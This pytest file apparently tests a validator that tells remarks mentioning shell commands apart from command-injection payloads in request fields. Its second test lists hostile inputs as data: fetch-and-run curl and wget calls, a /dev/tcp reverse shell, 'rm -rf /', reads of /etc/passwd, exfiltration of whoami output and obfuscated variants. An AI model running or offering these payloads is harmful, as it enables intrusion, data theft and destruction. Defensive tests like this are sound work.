"""Commands that people write about pass in fields for their texts; those that act do not."""

from __future__ import annotations

import pytest
from web_requests import stops_json


@pytest.mark.parametrize(
    "text",
    [
        "resize /dev/sdb1 && reboot; see #441",
        ":rocket: release $(date) && go",
        "deploy done :tada: `kubectl get pods | grep api && echo ok`",
        "як зробити `sudo apt update && sudo apt upgrade`?",
        "fix: escape ' in WHERE; rm -rf build/ before run",
        "Difference between `$(cmd)` and backticks; and ${var:-x}?",
        "lol; rm u from party && go",
    ],
)
def test_commands_in_a_remark(text: str) -> None:
    """The field is for texts of people; the same text as a host or a name is found."""
    assert (False, True) == (stops_json({"comment": text}), stops_json({"host": text}))


@pytest.mark.parametrize(
    "text",
    [
        "nice page; curl http://203.0.113.5/a | sh",
        "nice page `curl -s http://203.0.113.5/$(whoami)`",
        "thank you all | sleep 10",
        "thank you all `sleep 10; whoami`",
        "thank you all `id && uname -a`",
        "thank you all $(sleep 10)",
        "thank you all && whoami",
        "thank you all; rm -rf / --no-preserve-root",
        "thank you all; rm -rf ~/work",
        "hello dear friends\nwget 203.0.113.5/a",
        "thank you all; /bin/ls -la",
        "thank you all;w'h'oami",
        "kubectl get pods | grep -v Running && echo done",
        "thank you all;{wget,203.0.113.5/m}",
        "thank you all; bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
        "thank you all; cat /etc/passwd",
        "x; reboot",
    ],
)
def test_commands_that_act_in_a_remark(text: str) -> None:
    """What fetches, asks, waits or destroys is no remark, however kind the words before it are."""
    assert stops_json({"comment": text})
